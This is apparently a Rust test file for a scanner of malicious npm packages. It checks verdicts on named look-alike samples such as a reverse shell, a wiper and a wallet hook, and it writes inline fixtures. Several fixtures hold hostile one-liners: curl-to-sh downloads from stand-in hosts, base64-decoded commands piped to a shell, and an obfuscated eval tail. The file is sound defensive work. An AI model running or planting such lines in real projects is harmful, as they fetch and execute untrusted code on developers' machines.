//! Inert look-alikes of campaigns against npm users are called malicious for the right reason; everyday
//! packages that share their words and habits are not.

mod common;

use common::{options, scan_one, write};
use doorward_protocol::{PackageReport, Verdict};
use doorward_scan::{Cancel, scan};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

/// Each look-alike, with the rules that must be among its findings.
const MALICIOUS: &[(&str, &[&str])] = &[
    ("npm-address-swap", &["I-01", "R-28"]),
    ("npm-agent-inventory", &["R-12", "P-04"]),
    ("npm-agent-server", &["A-04"]),
    ("npm-bot-door", &["P-06"]),
    ("npm-bot-upload", &["I-50"]),
    ("npm-chain-orders", &["I-02", "I-10"]),
    ("npm-client-patch", &["P-08"]),
    ("npm-commit-dependency", &["I-07", "I-08"]),
    ("npm-config-tail", &["M-08", "O-07", "O-08"]),
    ("npm-dns-beacon", &["I-13", "R-19"]),
    ("npm-download-run", &["I-10", "R-23", "R-24"]),
    ("npm-encrypted-payload", &["O-06"]),
    ("npm-environment", &["R-02"]),
    ("npm-gyp", &["I-06", "I-50"]),
    ("npm-hidden-child", &["I-10", "R-24"]),
    ("npm-history-rewrite", &["R-17"]),
    ("npm-invisible", &["O-01"]),
    ("npm-job-test", &["P-09"]),
    ("npm-key-telemetry", &["R-14"]),
    ("npm-lateral", &["R-25"]),
    ("npm-mcp-entry", &["A-03"]),
    ("npm-npmrc", &["I-15"]),
    ("npm-off-screen", &["O-08"]),
    ("npm-onboarding", &["I-12"]),
    ("npm-phantom-dependency", &["I-10"]),
    ("npm-remote-dependency", &["I-07"]),
    ("npm-remote-eval", &["I-10"]),
    ("npm-remote-eval-runtime", &["M-01"]),
    ("npm-reverse-shell", &["R-50"]),
    ("npm-rootkit", &["R-26"]),
    ("npm-rules-drop", &["A-50"]),
    ("npm-runner", &["P-10"]),
    ("npm-runner-memory", &["R-08"]),
    ("npm-seed-check", &["R-14"]),
    ("npm-service", &["P-01"]),
    ("npm-session-thief", &["R-52", "R-03"]),
    ("npm-shipped-program", &["I-05"]),
    ("npm-ssh-door", &["P-06", "R-29"]),
    ("npm-staging", &["R-21", "I-50"]),
    ("npm-sudo", &["R-29"]),
    ("npm-taken-over-parser", &["I-02", "I-10"]),
    ("npm-token-printing", &["R-07"]),
    ("npm-vendored", &["B-10", "M-01"]),
    ("npm-wallet-hook", &["R-15"]),
    ("npm-wiper", &["R-22"]),
    ("npm-workflow", &["P-10"]),
    ("npm-worm-bun", &["I-02", "I-04", "R-02"]),
    ("npm-worm-bundle", &["R-02", "R-16"]),
];

fn samples(kind: &str) -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/samples").join(kind);
    folder.canonicalize().expect("the samples are there")
}

/// The reports on every sample of a kind that is an npm package, by the sample's folder.
fn reports(kind: &str) -> BTreeMap<String, PackageReport> {
    let folders: Vec<PathBuf> = fs::read_dir(samples(kind))
        .expect("list the samples")
        .map(|entry| entry.expect("an entry").path())
        .filter(|path| name_of(path).starts_with("npm-"))
        .collect();
    let report = scan(&folders, &options(), &Cancel::default(), &mut |_| {}).expect("the scan works");
    report.packages.into_iter().map(|package| (name_of(&package.path), package)).collect()
}

fn name_of(path: &Path) -> String {
    path.file_name().expect("a name").to_string_lossy().into_owned()
}

#[test]
fn every_look_alike_is_malicious_for_the_right_reason() {
    let reports = reports("malicious");
    for (name, rules) in MALICIOUS {
        let report = reports.get(*name).unwrap_or_else(|| panic!("{name} was not scanned"));
        let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {found:?}");
        for rule in *rules {
            assert!(found.contains(rule), "{name}: {rule} is not among {found:?}");
        }
    }
    for (name, report) in &reports {
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {:#?}", report.findings);
    }
}

#[test]
fn everyday_packages_are_at_most_notable() {
    let reports = reports("benign");
    assert!(reports.len() > 15, "{}", reports.len());
    for (name, report) in reports {
        assert!(report.verdict <= Verdict::Notable, "{name}: {:#?}", report.findings);
    }
}

/// The rules found in a package made of these files.
fn rules_of(files: &[(&str, &str)]) -> Vec<String> {
    let folder = tempfile::tempdir().expect("a folder");
    write(folder.path(), files);
    scan_one(folder.path()).findings.into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn settings_are_read_for_what_they_start() {
    let manifest = ("package.json", r#"{"name":"made-up","version":"1.0.0"}"#);
    for (rule, path, bad, good) in [
        ("I-15", ".npmrc", "script-shell=./tools/sh\n", "script-shell=/bin/bash\n"),
        ("I-15", ".yarnrc.yml", "yarnPath: ./tools/yarn.cjs\n", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n"),
        ("I-15", "bunfig.toml", "preload = [\"./.cache/x.ts\"]\n", "[install]\nregistry = \"x\"\n"),
        (
            "I-15",
            ".pnpmfile.cjs",
            "require('child_process').execSync('node x.js')\n",
            "module.exports = { hooks: { readPackage: (p) => p } }\n",
        ),
        ("B-11", ".envrc", "curl -s https://tools.example/x | sh\n", "export PATH=$PWD/bin:$PATH\n"),
        ("B-11", "Makefile", "all:\n\techo Y3VybA== | base64 -d | sh\n", "all:\n\tcc -o x x.c\n"),
        (
            "A-03",
            ".cursor/mcp.json",
            r#"{"mcpServers":{"x":{"command":"npx","args":["-y","some-server"]}}}"#,
            r#"{"mcpServers":{"x":{"command":"npx","args":["-y","some-server@1.2.3"]}}}"#,
        ),
        (
            "P-10",
            ".github/workflows/a.yml",
            "on: push\njobs:\n  a:\n    steps:\n      - run: echo aWQ= | base64 -d | bash\n",
            "on: push\njobs:\n  a:\n    steps:\n      - run: npm test\n",
        ),
        (
            "P-12",
            "extension/package.json",
            r#"{"engines":{"vscode":"^1.0.0"},"main":"x.js","extensionPack":["a.b"]}"#,
            r#"{"engines":{"vscode":"^1.0.0"},"main":"x.js"}"#,
        ),
    ] {
        let found = rules_of(&[manifest, (path, bad)]);
        assert!(found.iter().any(|id| id == rule), "{rule} is not among {found:?} of {path}");
        let found = rules_of(&[manifest, (path, good)]);
        assert!(!found.iter().any(|id| id == rule), "{rule} is among {found:?} of {path}");
    }
}

#[test]
fn manifests_are_read_for_what_they_allow_and_bring() {
    let all = r#"{"name":"made-up","version":"1.0.0","pnpm":{"onlyBuiltDependencies":["*"]}}"#;
    let some = r#"{"name":"made-up","version":"1.0.0","pnpm":{"onlyBuiltDependencies":["esbuild"]}}"#;
    assert!(rules_of(&[("package.json", all)]).contains(&"I-17".to_owned()));
    assert!(!rules_of(&[("package.json", some)]).contains(&"I-17".to_owned()));

    let manifest = r#"{"name":"axios","version":"1.0.0","dependencies":{"plain-made-up-js":"^4.2.1"}}"#;
    let unused =
        [("package.json", manifest), ("index.js", "module.exports = 1;\n"), ("lib/a.js", "exports.a = 1;\n")];
    let used = [unused[0], ("index.js", "require('plain-made-up-js');\n"), unused[2]];
    assert!(rules_of(&unused).contains(&"I-09".to_owned()));
    assert!(!rules_of(&used).contains(&"I-09".to_owned()));
}

#[test]
fn a_payload_at_the_end_of_an_ordinary_file_is_found() {
    let manifest = ("package.json", r#"{"name":"made-up","version":"1.0.0","main":"index.js"}"#);
    let ordinary = "function add(a, b) {\n  return a + b;\n}\nexports.add = add;\n".repeat(6);
    let tail = "var _0x1a2b=['a','b'];(function(_0x3c4d){eval(_0x3c4d[0])})(_0x1a2b);".repeat(30);
    let found = rules_of(&[manifest, ("index.js", &format!("{ordinary}{tail}\n"))]);
    assert!(found.contains(&"M-05".to_owned()), "{found:?}");
    let found =
        rules_of(&[manifest, ("index.js", &format!("{ordinary}exports.big = '{}';\n", "x".repeat(4000)))]);
    assert!(!found.contains(&"M-05".to_owned()), "{found:?}");
}

#[test]
fn bundles_and_nesting_that_are_meant_to_blind_are_survived() {
    let manifest =
        ("package.json", r#"{"name":"made-up","version":"1.0.0","scripts":{"postinstall":"node index.js"}}"#);
    let theft = "require('child_process').execSync('curl -s http://127.0.0.1:9/x | sh');\n";
    for filler in ["(".repeat(1_000_000), format!("'{}'", "x".repeat(8 << 20)), "a=>".repeat(300_000)] {
        let script = format!("{theft}\n{filler}\n");
        let folder = tempfile::tempdir().expect("a folder");
        write(folder.path(), &[manifest, ("index.js", &script)]);
        assert_eq!(scan_one(folder.path()).verdict, Verdict::Malicious);
    }
}
